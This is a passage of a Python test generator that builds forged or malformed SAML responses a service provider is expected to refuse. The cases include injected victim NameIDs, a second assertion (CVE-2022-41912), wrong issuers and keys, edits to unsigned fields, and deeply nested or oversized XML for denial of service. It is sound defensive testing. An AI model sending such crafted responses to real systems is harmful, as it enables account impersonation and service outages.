        "status-requester": {"status": "urn:oasis:names:tc:SAML:2.0:status:Requester"},
        "status-empty": {"status": ""},
        "status-success-suffix": {"status": "urn:oasis:names:tc:SAML:2.0:status:Success "},
        "version-1.1": {"version": "1.1"},
        "no-version": {"version": None},
        "holder-of-key": {"method": "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"},
        "sender-vouches": {"method": "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"},
        "key-in-confirmation": {"confirmation_data": f'<ds:KeyInfo xmlns:ds="{DSIG}"><ds:KeyName>x</ds:KeyName></ds:KeyInfo>'},
        "no-subject": {"subject": ""},
        "no-confirmation": {"subject": f"<saml:Subject>{name_id}</saml:Subject>"},
        "empty-confirmation": {"subject": f'<saml:Subject>{name_id}<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"/></saml:Subject>'},
        "two-confirmations": {"subject": f"<saml:Subject>{name_id}{confirmation}{confirmation}</saml:Subject>"},
        "two-name-ids": {"subject": f"<saml:Subject>{name_id}<saml:NameID>{VICTIM}</saml:NameID>{confirmation}</saml:Subject>"},
        "two-subjects": {"subject": f"<saml:Subject>{name_id}{confirmation}</saml:Subject>" * 2},
        "base-id": {"subject": f"<saml:Subject><saml:BaseID/>{confirmation}</saml:Subject>"},
        "encrypted-id": {"subject": f"<saml:Subject><saml:EncryptedID/>{confirmation}</saml:Subject>"},
        "name-id-beside-encrypted-id": {"subject": f"<saml:Subject>{name_id}<saml:EncryptedID/>{confirmation}</saml:Subject>"},
        "foreign-name-id": {"subject": f'<saml:Subject><x:NameID xmlns:x="urn:x">{ALICE}</x:NameID>{confirmation}</saml:Subject>'},
        "name-id-in-confirmation": {"subject": f"<saml:Subject>{confirmation.replace('<saml:SubjectConfirmationData', name_id + '<saml:SubjectConfirmationData')}</saml:Subject>"},
        "transient": {"name_id_format": "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"},
        "name-qualifier": {"name_id_attributes": f' NameQualifier="{OTHER_PROVIDER}"'},
        "sp-name-qualifier": {"name_id_attributes": ' SPNameQualifier="https://other.example"'},
        "no-sign-in": {"statements": ""},
        "only-attributes": {"statements": '<saml:AttributeStatement><saml:Attribute Name="x"/></saml:AttributeStatement>'},
        "unknown-statement": {"advice": "<saml:Statement/>"},
        "assertion-in-advice": {"advice": f"<saml:Advice>{Response(assertion_id='_advice').assertion()}</saml:Advice>"},
        "encrypted-attribute": {"statements": f'<saml:AuthnStatement AuthnInstant="{instant()}"/><saml:AttributeStatement><saml:EncryptedAttribute/></saml:AttributeStatement>'},
        "CVE-2022-41912-two-assertions": {"more_assertions": Response(assertion_id="_assertion-2").assertion()},
        "two-assertions-two-people": {"more_assertions": Response(assertion_id="_assertion-2", name_id=VICTIM).assertion()},
        "encrypted-assertion-beside": {"more_assertions": "<saml:EncryptedAssertion/>"},
        "foreign-assertion-beside": {"more_assertions": '<x:Assertion xmlns:x="urn:x"/>'},
        "foreign-child": {"more_assertions": '<x:Thing xmlns:x="urn:x"/>'},
    }
    for name, changes in cases.items():
        for signed, where in SIGNED.items():
            yield refused(group, f"{name}-{signed}", sign(Response(**changes).xml(), key, **where))
    for signed, where in SIGNED.items():
        genuine = sign(Response().xml(), key, **where)
        # Who asked for nothing takes no answer, and the other way round.
        yield refused(group, f"answer-to-nobody-{signed}", genuine, request=None)
        unsolicited = sign(Response(in_response_to=None, confirmed_for=None).xml(), key, **where)
        yield refused(group, f"unsolicited-{signed}", unsolicited)
        half = sign(Response(in_response_to=None).xml(), key, **where)
        yield refused(group, f"half-unsolicited-{signed}", half, request=None)
        half = sign(Response(confirmed_for=None).xml(), key, **where)
        yield refused(group, f"other-half-unsolicited-{signed}", half, request=None)
        empty = sign(Response(in_response_to="", confirmed_for="").xml(), key, **where)
        yield refused(group, f"empty-unsolicited-{signed}", empty, request=None)
        # Another tenant's provider, with its own key and as itself; and as ours.
        other = Response(issuer=OTHER_PROVIDER, assertion_issuer=OTHER_PROVIDER)
        yield refused(group, f"another-tenants-provider-{signed}", sign(other.xml(), keys["other"], **where))
        yield refused(group, f"another-tenants-provider-as-ours-{signed}", sign(Response().xml(), keys["other"], **where))
        both = ["provider", "other"]
        yield refused(group, f"known-key-other-issuer-{signed}", sign(other.xml(), keys["other"], **where), certificates=both)
        yield refused(group, f"late-{signed}", genuine, minutes=9)
        yield refused(group, f"early-{signed}", genuine, minutes=-5)
        yield refused(group, f"protocol-of-1.1-{signed}", genuine.replace(PROTOCOL, "urn:oasis:names:tc:SAML:1.0:protocol"))
        yield refused(group, f"assertion-of-1.1-{signed}", genuine.replace(ASSERTION, "urn:oasis:names:tc:SAML:1.0:assertion"))
    # Only the assertion is signed: what the response says is anybody's word, and has to fit all the same.
    loose = sign(Response().xml(), key, assertion=True)
    for name, (old, new) in {
        "destination": (f' Destination="{ACS}"', ' Destination="https://other.example"'),
        "destination-gone": (f' Destination="{ACS}"', ""),
        "in-response-to": (f' InResponseTo="{REQUEST}">', ' InResponseTo="_another">'),
        "in-response-to-gone": (f' InResponseTo="{REQUEST}">', ">"),
        "issuer": (f"<saml:Issuer>https://idp", "<saml:Issuer>https://other"),
        "status": ("status:Success", "status:Responder"),
        "root": ("samlp:Response", "samlp:ArtifactResponse"),
        "root-logout": ("samlp:Response", "samlp:LogoutResponse"),
    }.items():
        assert old in loose, name
        count = -1 if name.startswith("root") else 1
        yield refused(group, f"unsigned-response-{name}", loose.replace(old, new, count))
    assertion = re.search(r"<saml:Assertion\b.*</saml:Assertion>", loose, flags=re.DOTALL).group(0)
    bare = assertion.replace("<saml:Assertion ", f'<saml:Assertion xmlns:saml="{ASSERTION}" xmlns:samlp="{PROTOCOL}" ', 1)
    yield refused(group, "bare-assertion", bare)
    yield refused(group, "encrypted", loose.replace(assertion, '<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>'))


def sizes(key):
    group = "sizes"
    plain = sign(Response().xml(), key, assertion=True)
    yield refused(group, "large", plain.replace("<samlp:Status>", f"<samlp:Extensions>{'x' * 270_000}</samlp:Extensions><samlp:Status>", 1))
    yield refused(group, "large-and-white", plain + " " * 270_000)
    yield refused(group, "very-large", plain + " " * 3_000_000)
    for depth in (60, 2_000, 30_000):
        nested = "<x>" * depth + "</x>" * depth
        yield refused(group, f"deep-{depth}", plain.replace("<samlp:Status>", f'<samlp:Extensions>{nested}</samlp:Extensions><samlp:Status>', 1))
    many = "<x/>" * 50_000
    yield refused(group, "many-elements", plain.replace("<samlp:Status>", f"<samlp:Extensions>{many}</samlp:Extensions><samlp:Status>", 1))
    attributes = " ".join(f'a{n}="x"' for n in range(10_000))
    yield refused(group, "many-attributes", plain.replace("<samlp:Status>", f"<samlp:Extensions><x {attributes}/></samlp:Extensions><samlp:Status>", 1))
    # Parsers have taken minutes for these.
    some = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(1_000))
    redeclared = "".join(f'<y xmlns:m="urn:m{n}"/>' for n in range(2_000))
    for name, inner in {
        "namespaces-redeclared": f"<x {some}>{redeclared}</x>",
        "namespaces-nested": "".join(f'<x xmlns:n{n}="urn:{n}">' for n in range(100)) + "</x>" * 100,
        "namespaces-nested-few": "".join(f'<x xmlns:n{n}="urn:{n}" xmlns:m{n}="urn:{n}">' for n in range(20)) + redeclared + "</x>" * 20,
        "references": "&lt;" * 50_000,
        "comments": "<!---->" * 30_000,
    }.items():
        yield {**refused(group, name, plain.replace("<samlp:Status>", f"<samlp:Extensions>{inner}</samlp:Extensions><samlp:Status>", 1)), "expect": "same" if name in ("references", "comments") else "refuse"}
    namespaces = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(5_000))
    yield refused(group, "many-namespaces", plain.replace("<samlp:Status>", f"<samlp:Extensions><x {namespaces}>{'<y/>' * 2_000}</x></samlp:Extensions><samlp:Status>", 1))
